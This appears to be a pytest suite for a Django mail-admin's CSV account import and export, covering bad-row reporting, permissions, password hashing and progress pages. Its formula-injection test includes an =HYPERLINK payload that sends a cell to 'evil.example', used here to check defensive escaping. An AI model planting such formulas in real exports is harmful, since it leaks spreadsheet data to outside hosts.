"""CSV import and export of accounts: the manage.py commands and the Import/Export page."""

from __future__ import annotations

import csv
import datetime
import io
import json

import pytest
from django.contrib.auth.hashers import PBKDF2PasswordHasher
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

from accounts.models import Account, AccountImport
from accounts.services import account_import_run, account_set_aliases, accounts_import_csv
from basedir.models import ExportOutbox
from cgadmin.errors import AccessDenied, InvalidInput
from directory.models import DirectoryRecord
from logs.models import AuditEntry
from realms.auth import check_login
from tests.factories import make_account, make_domain, make_domain_admin
from tests.webforms import main_of

pytestmark = pytest.mark.django_db

PREHASHED = PBKDF2PasswordHasher().encode("imported-pass", "somesalt", iterations=1000)

GOOD_AND_BAD = f"""Name,Type,Password,Aliases,RealName,MaxAccountSize
ann,,clear-pass-1,annie a.n,Ann Example,10M
bad name,,,,Bad,
bob,AGrade,{PREHASHED},,"Bob, the Builder",
ann,,,,Twice,
cid,NoSuchType,,,,
dee,,,,Dee,lots
"eve",,,,"Eve
on two lines",
fay,,,bob,,
gus,,,,"{{not data}}",
hal,TextMailbox,,,,
"""


def names(domain) -> list[str]:
    return list(Account.objects.filter(domain=domain).order_by("name").values_list("name", flat=True))


def write(tmp_path, text: str, name: str = "accounts.csv") -> str:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


# --- manage.py accounts import -------------------------------------------------------------------


def test_the_command_imports_the_good_rows_and_reports_each_bad_line_by_number(client1, tmp_path, capsys):
    out, err = io.StringIO(), io.StringIO()

    with pytest.raises(CommandError) as failure:
        call_command("accounts", "import", "client1.test", write(tmp_path, GOOD_AND_BAD), stdout=out, stderr=err)

    assert failure.value.returncode == 1
    assert names(client1) == ["ann", "bob", "hal"]
    report = err.getvalue()
    assert "line 3: " in report and "may hold only letters" in report
    assert "line 5: " in report and "already exists" in report
    assert "line 6: " in report and "unknown account type" in report
    assert "line 7: " in report and "MaxAccountSize" in report
    assert "line 10: " in report and "already exists" in report  # the alias "bob" clashes with an account
    assert "line 11: " in report and "data-format" in report
    assert "line 8: RealName: must be one line" in report  # a record on lines 8 and 9
    assert "line 9" not in report and "line 12" not in report
    assert "3 account(s) created in client1.test, 7 bad line(s)" in out.getvalue()
    assert "row" in capsys.readouterr().err  # the tqdm bar (stderr)


def test_imported_accounts_are_what_the_services_make(client1, tmp_path):
    with pytest.raises(CommandError):
        call_command("accounts", "import", "client1.test", write(tmp_path, GOOD_AND_BAD), "--no-progress",
                     stdout=io.StringIO(), stderr=io.StringIO())

    ann = Account.objects.get(domain=client1, name="ann")
    assert ann.settings == {"RealName": "Ann Example", "MaxAccountSize": "10M"}
    assert sorted(ann.aliases.values_list("name", flat=True)) == ["a.n", "annie"]
    assert check_login("ann@client1.test", "clear-pass-1", address="192.0.2.1") == ann
    bob = Account.objects.get(domain=client1, name="bob")
    assert bob.kind == "AGrade" and bob.settings == {"RealName": "Bob, the Builder"}
    assert bob.password == PREHASHED  # kept as given, not hashed again
    assert check_login("bob@client1.test", "imported-pass", address="192.0.2.1") == bob
    hal = Account.objects.get(domain=client1, name="hal")
    assert hal.kind == "TextMailbox" and hal.settings == {} and hal.password.startswith("!")
    assert [(box.name, box.format) for box in hal.mailboxes.all()] == [("INBOX", "mbox")]
    client1.refresh_from_db()
    assert client1.account_count == 3
    created = AuditEntry.objects.filter(event="account.create", domain_name="client1.test")
    assert sorted(created.values_list("object_name", flat=True)) == [
        "ann@client1.test", "bob@client1.test", "hal@client1.test"]
    summary = AuditEntry.objects.get(event="account.import")
    assert summary.actor_name == "(shell)" and "Created=#3" in summary.after and "BadLines=#7" in summary.after
    assert ExportOutbox.objects.filter(kind="account", key=str(ann.pk)).exists()
    assert DirectoryRecord.objects.filter(domain=client1, name="ann", real_name="Ann Example").exists()
    # the bad rows left nothing behind: no half-made account, alias, or audit entry
    assert not Account.objects.filter(domain=client1, name__in=["fay", "dee", "cid", "gus", "eve"]).exists()
    assert not created.filter(object_name__startswith="fay@").exists()


def test_a_bad_header_changes_nothing(client1, tmp_path):
    for text, message in [("RealName,Password\nann,x\n", "no Name column"),
                          ("Name,RealName,realname\nann,A,B\n", "appears twice"),
                          ("", "empty")]:
        with pytest.raises(CommandError, match=message):
            call_command("accounts", "import", "client1.test", write(tmp_path, text), "--no-progress",
                         stdout=io.StringIO(), stderr=io.StringIO())
    assert names(client1) == []
    assert not AuditEntry.objects.filter(event="account.import").exists()


def test_an_address_in_another_domain_is_a_bad_line(client1, client2):
    report = accounts_import_csv(actor=None, domain=client1,
                                 text="Name\nann@client1.test\nbob@client2.test\n")

    assert names(client1) == ["ann"] and names(client2) == []
    assert report.errors == [(3, "'bob@client2.test' is not an address in client1.test")]


def test_a_domain_administrator_imports_only_with_can_create_accounts(client1):
    weak = make_domain_admin(client1, "weak")
    strong = make_domain_admin(client1, "strong", "CanCreateAccounts", "BasicSettings")

    with pytest.raises(AccessDenied):
        accounts_import_csv(actor=weak, domain=client1, text="Name\nann\n")
    report = accounts_import_csv(actor=strong, domain=client1, text="Name,Password\nann,pass-word-1\n")

    assert report.created == 1
    assert AuditEntry.objects.get(event="account.create", object_name="ann@client1.test").actor == strong


# --- export --------------------------------------------------------------------------------------


def test_export_then_import_gives_the_same_accounts(client1, tmp_path):
    jane = make_account(client1, "jane", RealName="Jane \"JD\" Doe", MaxAccountSize="5M",
                        RPOPAllowed="YES", custom1=["a", "b"])
    account_set_aliases(actor=None, account=jane, aliases=["jd", "j.doe"])
    make_account(client1, "bob", RealName="(not a list)")
    target = make_domain("copy.test")
    path = tmp_path / "out.csv"

    call_command("accounts", "export", "client1.test", str(path), "--passwords")
    text = path.read_text(encoding="utf-8")
    call_command("accounts", "import", "copy.test", str(path), "--no-progress",
                 stdout=io.StringIO(), stderr=io.StringIO())

    assert text.splitlines()[0].startswith("Name,Type,Aliases,Password,RealName,")
    for name in ("jane", "bob"):
        original = Account.objects.get(domain=client1, name=name)
        copy = Account.objects.get(domain=target, name=name)
        assert copy.settings == original.settings and copy.kind == original.kind
        assert copy.password == original.password
        assert sorted(copy.aliases.values_list("name", flat=True)) == sorted(
            original.aliases.values_list("name", flat=True))
    assert check_login("jane@copy.test", "correct horse", address="192.0.2.1") is not None


def test_export_leaves_passwords_out_unless_asked(client1):
    make_account(client1, "jane")
    out = io.StringIO()

    call_command("accounts", "export", "client1.test", stdout=out)

    assert out.getvalue().splitlines() == ["Name,Type,Aliases", "jane,MultiMailbox,"]


# --- the Import/Export page ----------------------------------------------------------------------


def import_url(domain: str = "client1.test") -> str:
    return f"/Master/Users/Domains/{domain}/ImportAccounts"


def upload(text: str, name: str = "people.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")


def test_the_page_queues_the_import_and_shows_its_report(postmaster, client1, as_basic,
                                                         django_capture_on_commit_callbacks):
    client = as_basic(postmaster)

    response = client.post(import_url(), {"file": upload(GOOD_AND_BAD)})
    job = AccountImport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"{import_url()}/{job.pk}"
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(response["Location"], {"action": "start"})["Location"] == response["Location"]

    assert names(client1) == ["ann", "bob", "hal"]
    page = main_of(client.get(response["Location"]))
    assert "done" in page.lower() and "3 account(s) created" in page and "7 bad line(s)" in page
    assert 'http-equiv="refresh"' not in client.get(response["Location"]).content.decode()
    assert "<td>3</td>" in page and "may hold only letters" in page
    progress = json.loads(client.get(response["Location"], {"format": "json"}).content)
    assert progress["status"] == "done" and progress["percent"] == 100 and progress["created"] == 3
    assert progress["errors"][0] == {"line": 3, "message": progress["errors"][0]["message"]}
    entry = AuditEntry.objects.get(event="account.create", object_name="ann@client1.test")
    assert entry.actor == postmaster and entry.interface == "WebAdmin"
    assert job.file_name == "people.csv" and "people.csv" in main_of(client.get(import_url()))


def test_a_running_import_reloads_its_page_and_shows_progress(postmaster, client1, as_basic):
    client = as_basic(postmaster)
    response = client.post(import_url(), {"file": upload("Name\nann\nbob\ncid\ndee\n")})  # not run yet
    job = AccountImport.objects.get()
    AccountImport.objects.filter(pk=job.pk).update(status="running", processed=2,
                                                   run_started=timezone.now() - datetime.timedelta(seconds=30))

    page = client.get(response["Location"]).content.decode()

    assert 'http-equiv="refresh"' in page and 'value="50"' in page and "2 of 4 line(s)" in page
    assert "50%" in page and "About 30 s left." in page and "import-progress.js" in page
    assert json.loads(client.get(response["Location"], {"format": "json"}).content)["seconds_left"] == 30
    AccountImport.objects.filter(pk=job.pk).update(processed=1)
    assert "About 1 min left." in client.get(response["Location"]).content.decode()  # 3 rows at 30 s a row


def test_an_upload_is_checked_first_and_lists_its_bad_rows_with_nothing_imported(postmaster, client1, as_basic):
    client = as_basic(postmaster)

    response = client.post(import_url(), {"file": upload(GOOD_AND_BAD)})

    page = main_of(client.get(response["Location"]))
    assert "ann" not in names(client1)
    assert "10 row(s), 7 bad row(s)" in page and "Nothing has been imported yet" in page
    rows = [(line, name) for line, name, _why in AccountImport.objects.get().errors]
    assert rows == [(3, "bad name"), (5, "ann"), (6, "cid"), (7, "dee"), (8, "eve"), (10, "fay"), (11, "gus")]
    assert "<td>5</td><td>ann</td>" in page and "may hold only letters" in page
    assert "Import the good rows</button>" in page and 'http-equiv="refresh"' not in page


def test_a_checked_import_can_be_cancelled(postmaster, client1, as_basic):
    client = as_basic(postmaster)
    response = client.post(import_url(), {"file": upload("Name\nann\n")})

    cancelled = client.post(response["Location"], {"action": "cancel"})

    assert cancelled["Location"] == import_url() and not AccountImport.objects.exists()
    assert "ann" not in names(client1)


def test_the_rejected_rows_download_as_csv_with_their_cells_and_a_reason(postmaster, client1, as_basic,
                                                                        django_capture_on_commit_callbacks):
    client = as_basic(postmaster)
    response = client.post(import_url(), {"file": upload(GOOD_AND_BAD)})
    checked = [(line, why) for line, _name, why in AccountImport.objects.get().errors]
    assert client.get(f"{response['Location']}/rejected.csv").status_code == 404  # not imported yet
    with django_capture_on_commit_callbacks(execute=True):
        client.post(response["Location"], {"action": "start"})

    assert [tuple(error) for error in AccountImport.objects.get().errors] == checked  # the check said it all

    assert "rejected.csv" in main_of(client.get(response["Location"]))
    download = client.get(f"{response['Location']}/rejected.csv")

    assert download["Content-Type"].startswith("text/csv") and "rejected" in download["Content-Disposition"]
    assert download.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert rows[0] == ["Name", "Type", "Password", "Aliases", "RealName", "MaxAccountSize", "Reason"]
    assert [row[0] for row in rows[1:]] == ["bad name", "ann", "cid", "dee", "eve", "fay", "gus"]
    assert rows[2][4] == "Twice" and rows[5][4] == "Eve\non two lines" and rows[7][4] == "{not data}"
    assert all(row[6] for row in rows[1:])
    other = make_domain_admin(make_domain("other.test"), "boss", "CanCreateAccounts")
    assert as_basic(other).get(f"/Domain/Domains/client1.test/ImportAccounts/"
                               f"{AccountImport.objects.get().pk}/rejected.csv").status_code == 403


def test_a_second_run_resumes_where_the_first_stopped(postmaster, client1, as_basic):
    as_basic(postmaster).post(import_url(), {"file": upload("Name\nann\nbob\ncid\n")})
    job = AccountImport.objects.get()
    AccountImport.objects.filter(pk=job.pk).update(status="running", processed=2, created_count=2)

    account_import_run(job_id=job.pk)

    job.refresh_from_db()
    assert names(client1) == ["cid"]  # the first two were done by the run that stopped
    assert (job.status, job.processed, job.created_count, job.text) == ("done", 3, 3, "")


def test_a_bad_file_is_refused_on_the_page_with_nothing_queued(postmaster, client1, as_basic):
    response = as_basic(postmaster).post(import_url(), {"file": upload("Password\nx\n")})

    assert response.status_code == 400
    assert "no Name column" in main_of(response)
    assert not AccountImport.objects.exists()
    not_utf8 = SimpleUploadedFile("x.csv", "Name\nj\xf6rg\n".encode("latin-1"))
    response = as_basic(postmaster).post(import_url(), {"file": not_utf8})
    assert response.status_code == 400 and "not UTF-8" in main_of(response)


def test_a_domain_administrator_without_the_right_sees_no_import_form(client1, as_basic):
    weak = make_domain_admin(client1, "weak")
    client = as_basic(weak)

    assert "Import Accounts</button>" not in main_of(client.get("/Domain/Domains/client1.test/ImportAccounts"))
    response = client.post("/Domain/Domains/client1.test/ImportAccounts", {"file": upload("Name\nann\n")})
    assert response.status_code == 403 and "CanCreateAccounts" in main_of(response)
    assert not AccountImport.objects.exists() and names(client1) == ["weak"]


def test_the_export_download(postmaster, client1, as_basic):
    make_account(client1, "jane", RealName="Jane")
    client = as_basic(postmaster)

    response = client.get("/Master/Users/Domains/client1.test/ExportAccounts")

    assert response["Content-Type"].startswith("text/csv")
    assert "client1.test-accounts.csv" in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # spreadsheets read it as UTF-8
    assert body.decode("utf-8-sig") == "Name,Type,Aliases,RealName\r\njane,MultiMailbox,,Jane\r\n"


def test_a_cyrillic_real_name_round_trips_through_export_and_import(postmaster, client1, as_basic,
                                                                    django_capture_on_commit_callbacks):
    make_account(client1, "ivan", RealName="Иван Петров")
    make_domain("copy.test")
    client = as_basic(postmaster)
    exported = b"".join(client.get("/Master/Users/Domains/client1.test/ExportAccounts").streaming_content)

    response = client.post(import_url("copy.test"), {"file": SimpleUploadedFile("x.csv", exported)})
    with django_capture_on_commit_callbacks(execute=True):
        client.post(response["Location"], {"action": "start"})

    assert Account.objects.get(domain__name="copy.test", name="ivan").settings["RealName"] == "Иван Петров"


def test_stored_passwords_are_exported_only_with_basic_settings(client1, as_basic):
    make_account(client1, "jane")
    reader = make_domain_admin(client1, "reader")
    client = as_basic(reader)

    assert client.get("/Domain/Domains/client1.test/ExportAccounts").status_code == 200
    assert client.get("/Domain/Domains/client1.test/ExportAccounts", {"passwords": "1"}).status_code == 403


def test_another_domains_import_cannot_be_seen(client1, client2, as_basic):
    job = AccountImport.objects.create(domain=client2, actor_name="(shell)", text="Name\n")
    admin = make_domain_admin(client1, "admin", "CanCreateAccounts")

    assert as_basic(admin).get(f"/Domain/Domains/client2.test/ImportAccounts/{job.pk}").status_code == 403
    assert as_basic(admin).get(f"/Domain/Domains/client1.test/ImportAccounts/{job.pk}").status_code == 404


def test_the_cell_format():
    from accounts.csvformat import format_cell, parse_cell

    for value in ["plain", "(starts like a list", ["a", "b"], {"k": "v"}, "#1", ""]:
        assert parse_cell(format_cell(value)) == value
    with pytest.raises(InvalidInput):
        parse_cell("(unclosed")


@pytest.mark.parametrize("imports", [1, 12])
def test_the_import_page_costs_the_same_queries_however_many_imports(postmaster, client1, as_basic, imports,
                                                                     django_assert_num_queries):
    for index in range(imports):
        AccountImport.objects.create(domain=client1, actor=postmaster, actor_name="postmaster@x",
                                     file_name=f"f{index}.csv", text="Name\n")
    client = as_basic(postmaster)
    client.get(import_url())

    with django_assert_num_queries(IMPORT_PAGE_QUERIES):
        page = main_of(client.get(import_url()))

    assert page.count(".csv</td>") == min(imports, 10)


# HTTP Basic login (1: the credential cache re-reads the account), the domain, the recent imports,
# the server name.
IMPORT_PAGE_QUERIES = 4


# --- formulas ----------------------------------------------------------------------------------


FORMULAS = {
    "alice": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "bob": "+1 555 0100",
    "carl": "-2+3",
    "dora": "@SUM(1+1)",
    "emil": "'=quoted already",
    "fred": "''-two quotes",
    "gina": "it's = fine",
}


def test_export_writes_cells_a_spreadsheet_would_run_as_text_and_import_gives_them_back(postmaster, client1,
                                                                                       as_basic, tmp_path):
    for name, real_name in FORMULAS.items():
        make_account(client1, name, RealName=real_name)
    target = make_domain("copy.test")

    download = as_basic(postmaster).get("/Master/Users/Domains/client1.test/ExportAccounts")
    text = b"".join(download.streaming_content).decode("utf-8")
    cells = {row[0]: row[3] for row in csv.reader(io.StringIO(text)) if row[0] in FORMULAS}
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells.values()), cells
    assert cells["alice"] == "'" + FORMULAS["alice"] and cells["gina"] == "it's = fine"
    call_command("accounts", "import", "copy.test", write(tmp_path, text), "--no-progress",
                 stdout=io.StringIO(), stderr=io.StringIO())

    copied = {account.name: account.settings["RealName"] for account in Account.objects.filter(domain=target)}
    assert copied == FORMULAS


def test_clear_passwords_are_hashed_by_worker_processes_and_each_verifies(client1, tmp_path):
    """Issue 18.2: a few batches of clear passwords, hashed in parallel, each stored for its own row,
    with the row's own PasswordEncryption (A-crpt stays recoverable)."""
    from accounts.hashers import recover_password

    lines = ["Name,Password,PasswordEncryption"]
    lines += [f"user{index},pass-{index}-word," for index in range(230)]
    lines += ["keeper,apop-secret,A-crpt", "nopass,,"]
    path = tmp_path / "people.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    call_command("accounts", "import", "client1.test", str(path), "--no-progress")

    accounts = {account.name: account for account in Account.objects.filter(domain=client1)}
    for index in (0, 99, 100, 101, 199, 229):
        assert accounts[f"user{index}"].check_password(f"pass-{index}-word")
        assert not accounts[f"user{index}"].check_password(f"pass-{index + 1}-word")
    assert len({accounts[f"user{index}"].password for index in range(230)}) == 230  # salted, one each
    assert recover_password(accounts["keeper"].password) == "apop-secret"
    assert not accounts["nopass"].has_usable_password()


def test_the_check_and_the_import_refuse_a_clear_password_the_policy_refuses(postmaster, client1, as_basic,
                                                                            django_capture_on_commit_callbacks):
    from domains.services import domain_update_settings

    domain_update_settings(actor=None, domain=client1, updates={"MinPasswordLength": "10"})
    client = as_basic(postmaster)
    response = client.post(import_url(), {"file": upload(f"Name,Password\nann,short1\nbob,long-enough-1\n"
                                                         f"cat,{PREHASHED}\n")})
    checked = AccountImport.objects.get().errors
    assert [(line, name) for line, name, _why in checked] == [(2, "ann")] and "10" in checked[0][2]

    with django_capture_on_commit_callbacks(execute=True):
        client.post(response["Location"], {"action": "start"})

    assert AccountImport.objects.get().errors == [[2, checked[0][2]]]
    assert names(client1) == ["bob", "cat"] and Account.objects.get(name="bob").check_password("long-enough-1")
